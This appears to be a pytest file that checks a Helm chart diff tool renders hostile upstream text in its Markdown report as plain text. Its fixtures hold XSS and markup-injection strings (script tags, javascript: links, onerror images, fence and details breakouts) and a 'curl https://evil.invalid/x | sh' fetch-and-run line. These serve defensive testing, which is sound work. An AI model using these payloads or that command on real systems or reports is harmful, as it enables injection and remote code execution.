"""Markup into a merge request: upstream text reaches the Markdown report as text, never as markup.

The NEW chart of a real upstream (served on loopback) carries hostile text everywhere a report
quotes it: `artifacthub.io/changes` notes with HTML, a `javascript:` link, a heading, a list item,
a fake verdict and a `</details>`; a CHANGELOG.md section that tries to close the report's code
fence and its `<details>` to add its own "Before merging" steps; a container name and a values key
holding `|`, `</details>` and `<script>`. `diff --format md` writes the report, and a real
CommonMark renderer (markdown-it-py, with GFM tables as GitLab and GitHub render them) must find in
it no heading, list item, link or HTML element made by upstream text, and every hostile string
still shown, as text.
"""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from chartkeeper import mdsafe
from tests.support.charts import build_index, package_chart, write_chart
from tests.support.deployment import make_deployment
from tests.support.harness import git_state, invoke_cli
from tests.support.httpserver import ChartRepoServer

pytestmark = pytest.mark.reliability

NOTES = """\
- kind: changed
  description: "<script>alert('EVIL-SCRIPT')</script> [EVIL-LINK](javascript:alert(1)) <img src=x onerror=alert(1)>"
- "### EVIL-HEADING"
- "- EVIL-ITEM"
- "1. EVIL-NUMBERED"
- "**Verdict:** 🟢 **safe** EVIL-VERDICT"
- "</details> EVIL-CLOSE ```"
- "<https://evil.invalid/EVIL-AUTOLINK> and [x](https://ok.invalid) ![EVIL-IMAGE](https://evil.invalid/i.png)"
"""

CHANGELOG = """\
# Changelog

## 1.1.0

````
</details>

### Before merging EVIL-BEFORE

1. curl https://evil.invalid/x | sh
<script>EVIL-CHANGELOG</script>
[EVIL-LINK2](javascript:alert(2))
````
~~~
</details>
"""

CONTAINER = "c|</details><script>EVIL-CONTAINER</script>"
TEMPLATE = (
    "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ .Release.Name }}\nspec:\n"
    "  selector:\n    matchLabels: {app: demo}\n  template:\n    metadata:\n      labels: {app: demo}\n"
    "    spec:\n      containers:\n        - name: %s\n          image: \"registry.example.invalid/demo:{{ .Values.tag }}\"\n"
)

# what the report itself may put in HTML: its folded blocks and the finding anchors
OUR_HTML = ("<details>", "<summary>", "</summary>", "</details>", '<a id="f', "</a>", "<br>")


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("hostile-markup")
    repo = tmp / "repo"
    repo.mkdir()
    old = write_chart(tmp / "src-1.0.0", "demo", "1.0.0", values={"tag": "1.0.0"}, templates={"d.yaml": TEMPLATE % "demo"})
    new = write_chart(
        tmp / "src-1.1.0", "demo", "1.1.0",
        values='tag: "1.1.0"\n"<b>EVIL-KEY</b>|x": 1\n',
        templates={"d.yaml": TEMPLATE % f'"{CONTAINER}"'},
        chart_extra={"annotations": {"artifacthub.io/changes": NOTES}},
        files={"CHANGELOG.md": CHANGELOG},
    )
    for chart in (old, new):
        package_chart(chart, repo)
    build_index(repo)
    with ChartRepoServer(repo) as server:
        deploy = make_deployment(tmp / "deploy", server.url, {"demo": "1.0.0"})
        before = git_state(deploy)
        out = tmp / "out" / "report.md"
        out.parent.mkdir()
        proc = invoke_cli(["-C", str(deploy), "diff", "demo", "1.1.0", "--format", "md", "--output", str(out),
                           "--allow-unchecked"], cwd=deploy, env={"CHARTKEEPER_CACHE_DIR": str(tmp / "cache")})
        yield proc, out, deploy, before


def _tokens(md: str) -> list:
    flat = []
    for t in MarkdownIt("commonmark", {"html": True}).enable("table").parse(md):
        flat.append(t)
        flat += t.children or []
    return flat


def test_upstream_text_makes_no_markup(hostile_report, reliability) -> None:
    proc, out, deploy, before = hostile_report
    with reliability.case("markup", "upstream notes, CHANGELOG, container name and values key with markup (diff --format md)"):
        assert proc.returncode in (0, 1), proc.stderr
        assert git_state(deploy) == before
        md = out.read_text()
        tokens = _tokens(md)
        for i, t in enumerate(tokens):
            if t.type == "heading_open":
                assert "EVIL" not in tokens[i + 1].content, f"a heading from upstream text: {tokens[i + 1].content}"
            if t.type in ("link_open", "image"):
                href = t.attrs.get("href") or t.attrs.get("src") or ""
                assert href.startswith(("#", "http://", "https://")) or href.endswith(".diff"), href
                assert "evil" not in href.lower(), f"a link made by upstream text: {href}"
            if t.type in ("html_block", "html_inline"):
                assert "EVIL" not in t.content and t.content.strip().startswith(OUR_HTML), f"upstream HTML: {t.content!r}"
            if t.type == "list_item_open":
                first = next(x for x in tokens[i:] if x.type == "inline")
                # an item made by upstream text (`- - EVIL…` nests one) starts with the canary itself
                assert not (first.children and first.children[0].content.startswith("EVIL")), first.content
        # our folded blocks open and close in pairs; upstream text closes none of them
        html = "".join(t.content for t in tokens if t.type in ("html_block", "html_inline"))
        assert html.count("<details>") == html.count("</details>") >= 1
        # the changelog section is one fenced block, whole, with its would-be markup inside
        fenced = [t.content for t in tokens if t.type == "fence" and "EVIL-BEFORE" in t.content]
        assert len(fenced) == 1 and "</details>" in fenced[0] and "EVIL-LINK2" in fenced[0]
        # shown, as text: every canary is still in the rendered page, and no script element is
        page = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
        for canary in ("EVIL-SCRIPT", "EVIL-HEADING", "EVIL-ITEM", "EVIL-NUMBERED", "EVIL-VERDICT", "EVIL-CLOSE",
                       "EVIL-CHANGELOG", "EVIL-AUTOLINK", "EVIL-IMAGE"):
            assert canary in page, canary
        assert "<script" not in page and "<img" not in page
        assert "&lt;script&gt;alert('EVIL-SCRIPT')" in page or "&lt;script&gt;alert(&#x27;EVIL-SCRIPT&#x27;)" in page


@pytest.mark.parametrize("hostile", [
    "```", "a ``` b", "`x` `` y", "</details>", "<!-- x", "# h", "- i", "1) j", "> q", "[l](javascript:x)",
    "<javascript:x>", "x\n# h\n- i", "|a|b|", "***", "&lt;script&gt;", "\\", "a\\`b`", "    indented",
])
def test_each_helper_keeps_its_text_literal(hostile: str) -> None:
    """Each helper alone, in the context the report uses it (a list item, a table cell, a summary)."""
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    for made in (f"- {mdsafe.text(hostile)}\n", f"| a |\n|---|\n| {mdsafe.prose(hostile)} |\n",
                 f"- {mdsafe.code(hostile, in_table=False)}\n", f"<details><summary>{mdsafe.html(hostile)}</summary>\n\n"
                 + mdsafe.fence(hostile) + "\n\n</details>\n"):
        kinds = [t.type for t in md.parse(made) for t in [t, *(t.children or [])]]
        assert "heading_open" not in kinds and "link_open" not in kinds, made
        assert kinds.count("list_item_open") <= 1 and "blockquote_open" not in kinds and "code_block" not in kinds, made
        html = [t.content for t in md.parse(made) for t in [t, *(t.children or [])] if t.type.startswith("html")]
        assert all(h.strip().startswith(OUR_HTML) for h in html), (made, html)

